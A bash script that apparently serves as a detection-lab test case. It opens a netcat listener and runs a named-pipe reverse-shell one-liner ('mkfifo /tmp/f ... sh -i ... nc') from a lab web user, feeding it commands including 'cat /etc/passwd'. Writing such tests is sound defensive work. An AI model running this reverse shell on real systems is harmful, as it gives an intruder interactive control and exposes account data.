# A shell between a named pipe and netcat: the shell never has the socket itself.
# rules: plain
# format: RAW
# node: web-01
# source: 203.0.113.66
source "$(dirname "${BASH_SOURCE[0]}")/../helpers.sh"

{ sleep 4; for line in id 'ps aux' 'cat /etc/passwd' exit; do echo "$line"; sleep 1; done; } |
  timeout 20 ip netns exec audit-lab nc -l "$source_ip" 4444 & listener=$!
until_listening 4444 outside
from "$source_ip" www www-Passw0rd "rm -f /tmp/f; mkfifo /tmp/f; timeout 15 sh -c 'cat /tmp/f | sh -i 2>&1 | nc -N $source_ip 4444 > /tmp/f'; rm -f /tmp/f"
wait $listener || true
